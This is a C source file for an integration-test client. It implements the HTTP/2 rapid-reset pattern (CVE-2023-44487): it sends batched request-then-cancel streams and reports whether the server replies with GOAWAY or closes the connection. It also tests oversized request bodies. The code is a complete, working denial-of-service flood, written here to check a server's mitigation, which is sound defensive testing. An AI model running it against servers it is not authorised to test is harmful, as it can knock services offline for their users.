/*
 * h2_reset_client - an HTTP/2 rapid-reset client (CVE-2023-44487 pattern) for the integration tests.
 * Over one TLS connection (ALPN h2) it sends, in writes of --batch streams each, HEADERS + DATA
 * (END_STREAM) + RST_STREAM (CANCEL) for --streams POST requests to --path, built frame by frame so that
 * each reset follows its request in the same write.  Then it reads until the server closes.
 *
 *   h2_reset_client --server HOST:PORT --cacert CA.pem --path PATH [--streams N] [--batch N]
 *                   [--timeout-ms N] [--body BYTES]
 *
 * --body: instead, one request (stream 1, no reset) with a body of BYTES in 16 KiB DATA frames; prints
 * "RST <error code>" when the server reset the stream, "RESPONSE" when it answered with HEADERS, or
 * "NONE" within the timeout.
 *
 * Output, one line: "GOAWAY <error code> CLOSED <0|1> SENT <streams written>" when the server sent
 * GOAWAY, "NOGOAWAY CLOSED <0|1> SENT <n>" otherwise (CLOSED 1: the server closed the connection within
 * the timeout).  Exit 0, or 2 on a setup error ("ERROR <text>").  The streams stop once a write fails.
 */
#include <getopt.h>
#include <netdb.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
#include <openssl/err.h>
#include <openssl/ssl.h>

#define FRAME_HEADERS 0x1
#define FRAME_DATA 0x0
#define FRAME_RST 0x3
#define FRAME_SETTINGS 0x4
#define FRAME_GOAWAY 0x7
#define FLAG_END_STREAM 0x1
#define FLAG_END_HEADERS 0x4
#define ERR_CANCEL 0x8

static int error(const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    printf("ERROR ");
    vprintf(fmt, ap);
    printf("\n");
    va_end(ap);
    return 2;
}

typedef struct buf {
    uint8_t *p;
    size_t len, cap;
} buf;

static void put(buf *b, const void *p, size_t n)
{
    if (b->len + n > b->cap) {
        b->cap = (b->len + n) * 2;
        b->p = realloc(b->p, b->cap);
        if (!b->p)
            abort();
    }
    if (n)
        memcpy(b->p + b->len, p, n);
    b->len += n;
}

static void frame(buf *b, uint8_t type, uint8_t flags, uint32_t sid, const void *payload, size_t len)
{
    uint8_t h[9] = {
        (uint8_t)(len >> 16),        (uint8_t)(len >> 8),  (uint8_t)len,        type,        flags,
        (uint8_t)(sid >> 24 & 0x7f), (uint8_t)(sid >> 16), (uint8_t)(sid >> 8), (uint8_t)sid};
    put(b, h, sizeof(h));
    put(b, payload, len);
}

/* HPACK literal without indexing; name by static-table index (idx > 0, < 15) or literal (idx 0). */
static void literal(buf *b, unsigned idx, const char *name, const char *value)
{
    uint8_t first = (uint8_t)idx;
    put(b, &first, 1);
    if (idx == 0) {
        uint8_t n = (uint8_t)strlen(name);
        put(b, &n, 1);
        put(b, name, n);
    }
    uint8_t v = (uint8_t)strlen(value);
    put(b, &v, 1);
    put(b, value, v);
}

static void headers(buf *b, uint32_t sid, const char *authority, const char *path, const char *length)
{
    buf h = {0};
    uint8_t post = 0x83, https = 0x87; /* static table: :method POST, :scheme https */
    put(&h, &post, 1);
    put(&h, &https, 1);
    literal(&h, 4, NULL, path);      /* :path */
    literal(&h, 1, NULL, authority); /* :authority */
    literal(&h, 0, "content-type", "application/json");
    literal(&h, 0, "x-admin-protocol", "gsma/rsp/v2.2.2");
    literal(&h, 0, "content-length", length);
    frame(b, FRAME_HEADERS, FLAG_END_HEADERS, sid, h.p, h.len);
    free(h.p);
}

static void request(buf *b, uint32_t sid, const char *authority, const char *path)
{
    static const char body[] = "{}";
    headers(b, sid, authority, path, "2");
    frame(b, FRAME_DATA, FLAG_END_STREAM, sid, body, sizeof(body) - 1);
    uint8_t code[4] = {0, 0, 0, ERR_CANCEL};
    frame(b, FRAME_RST, 0, sid, code, sizeof(code));
}

static int tcp_connect(const char *hostport)
{
    char host[256];
    const char *colon = strrchr(hostport, ':');
    if (!colon || (size_t)(colon - hostport) >= sizeof(host))
        return -1;
    memcpy(host, hostport, (size_t)(colon - hostport));
    host[colon - hostport] = 0;
    struct addrinfo hints = {.ai_socktype = SOCK_STREAM}, *ai = NULL;
    if (getaddrinfo(host, colon + 1, &hints, &ai) != 0)
        return -1;
    int fd = socket(ai->ai_family, SOCK_STREAM, 0);
    if (fd >= 0 && connect(fd, ai->ai_addr, ai->ai_addrlen) != 0) {
        close(fd);
        fd = -1;
    }
    freeaddrinfo(ai);
    return fd;
}

static uint64_t now_ms(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (uint64_t)t.tv_sec * 1000 + (uint64_t)t.tv_nsec / 1000000;
}

/* Reads frames until EOF or timeout (or, with stream1, a HEADERS or RST_STREAM on stream 1: *stream1 =
 * -2 for HEADERS, else the RST code); *goaway gets the first GOAWAY error code or -1. */
static int read_until_close(SSL *ssl, int fd, int timeout_ms, long *goaway, long *stream1)
{
    uint8_t in[1 << 16];
    size_t have = 0;
    uint64_t end = now_ms() + (uint64_t)timeout_ms;
    *goaway = -1;
    for (;;) {
        if (SSL_pending(ssl) == 0) {
            uint64_t t = now_ms();
            if (t >= end)
                return 0;
            struct pollfd p = {.fd = fd, .events = POLLIN};
            if (poll(&p, 1, (int)(end - t)) <= 0)
                return 0;
        }
        int n = SSL_read(ssl, in + have, (int)(sizeof(in) - have));
        if (n <= 0) {
            int e = SSL_get_error(ssl, n);
            if (e == SSL_ERROR_WANT_READ)
                continue;
            return 1; /* closed */
        }
        have += (size_t)n;
        size_t off = 0;
        while (have - off >= 9) {
            size_t len = (size_t)in[off] << 16 | (size_t)in[off + 1] << 8 | in[off + 2];
            if (have - off < 9 + len)
                break;
            uint32_t sid = (uint32_t)(in[off + 5] & 0x7f) << 24 | (uint32_t)in[off + 6] << 16 |
                           (uint32_t)in[off + 7] << 8 | in[off + 8];
            if (stream1 && sid == 1 && in[off + 3] == FRAME_HEADERS) {
                *stream1 = -2;
                return 0;
            }
            if (stream1 && sid == 1 && in[off + 3] == FRAME_RST && len == 4) {
                *stream1 = in[off + 12];
                return 0;
            }
            if (in[off + 3] == FRAME_GOAWAY && len >= 8) {
                const uint8_t *q = in + off + 9 + 4;
                if (*goaway < 0) /* the first: later ones may answer frames sent after it */
                    *goaway =
                        (long)((uint32_t)q[0] << 24 | (uint32_t)q[1] << 16 | (uint32_t)q[2] << 8 | q[3]);
                if (getenv("H2_RESET_DEBUG"))
                    fprintf(stderr, "GOAWAY %u\n", (unsigned)q[3]);
            }
            off += 9 + len;
        }
        memmove(in, in + off, have - off);
        have -= off;
        if (have == sizeof(in))
            have = 0; /* a frame larger than the buffer: skip it */
    }
}

int main(int argc, char **argv)
{
    const char *server = NULL, *cacert = NULL, *path = NULL;
    int streams = 400, batch = 50, timeout_ms = 5000;
    long body = -1;
    static const struct option lo[] = {
        {"server", required_argument, NULL, 's'}, {"cacert", required_argument, NULL, 'c'},
        {"path", required_argument, NULL, 'p'},   {"streams", required_argument, NULL, 'n'},
        {"batch", required_argument, NULL, 'b'},  {"timeout-ms", required_argument, NULL, 't'},
        {"body", required_argument, NULL, 'B'},   {NULL, 0, NULL, 0},
    };
    int c;
    while ((c = getopt_long(argc, argv, "", lo, NULL)) != -1) {
        switch (c) {
        case 's':
            server = optarg;
            break;
        case 'c':
            cacert = optarg;
            break;
        case 'p':
            path = optarg;
            break;
        case 'n':
            streams = atoi(optarg);
            break;
        case 'b':
            batch = atoi(optarg);
            break;
        case 't':
            timeout_ms = atoi(optarg);
            break;
        case 'B':
            body = atol(optarg);
            break;
        default:
            return error("usage: see the header of h2_reset_client.c");
        }
    }
    if (!server || !cacert || !path || streams <= 0 || batch <= 0 || streams > 1000000)
        return error("--server, --cacert and --path are required");
    signal(SIGPIPE, SIG_IGN); /* the server closes while we still write */
    SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
    static const uint8_t alpn[] = {2, 'h', '2'};
    if (!ctx || SSL_CTX_load_verify_locations(ctx, cacert, NULL) != 1 ||
        SSL_CTX_set_alpn_protos(ctx, alpn, sizeof(alpn)) != 0)
        return error("TLS context");
    SSL_CTX_set_verify(ctx, SSL_VERIFY_PEER, NULL);
    int fd = tcp_connect(server);
    if (fd < 0)
        return error("cannot connect to %s", server);
    SSL *ssl = SSL_new(ctx);
    SSL_set_fd(ssl, fd);
    const unsigned char *proto = NULL;
    unsigned plen = 0;
    if (SSL_connect(ssl) != 1)
        return error("TLS handshake with %s failed", server);
    SSL_get0_alpn_selected(ssl, &proto, &plen);
    if (plen != 2 || memcmp(proto, "h2", 2) != 0)
        return error("server did not select h2");

    buf b = {0};
    put(&b, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 24);
    frame(&b, FRAME_SETTINGS, 0, 0, NULL, 0);
    if (body >= 0) {
        char length[32];
        snprintf(length, sizeof(length), "%ld", body);
        headers(&b, 1, server, path, length);
        static uint8_t chunk[16384];
        memset(chunk, '{', sizeof(chunk));
        for (long left = body; left > 0;) {
            size_t n = left > (long)sizeof(chunk) ? sizeof(chunk) : (size_t)left;
            left -= (long)n;
            frame(&b, FRAME_DATA, left == 0 ? FLAG_END_STREAM : 0, 1, chunk, n);
        }
        long goaway, s1 = -1;
        SSL_write(ssl, b.p, (int)b.len);
        read_until_close(ssl, fd, timeout_ms, &goaway, &s1);
        if (s1 == -2)
            printf("RESPONSE\n");
        else if (s1 >= 0)
            printf("RST %ld\n", s1);
        else
            printf("NONE\n");
        free(b.p);
        SSL_free(ssl);
        close(fd);
        SSL_CTX_free(ctx);
        return 0;
    }
    int sent = 0;
    uint32_t sid = 1;
    while (sent < streams) {
        for (int i = 0; i < batch && sent < streams; i++, sent++, sid += 2)
            request(&b, sid, server, path);
        if (SSL_write(ssl, b.p, (int)b.len) <= 0)
            break;
        b.len = 0;
    }
    long goaway;
    int closed = read_until_close(ssl, fd, timeout_ms, &goaway, NULL);
    if (goaway >= 0)
        printf("GOAWAY %ld CLOSED %d SENT %d\n", goaway, closed, sent);
    else
        printf("NOGOAWAY CLOSED %d SENT %d\n", closed, sent);
    free(b.p);
    SSL_free(ssl);
    close(fd);
    SSL_CTX_free(ctx);
    return 0;
}
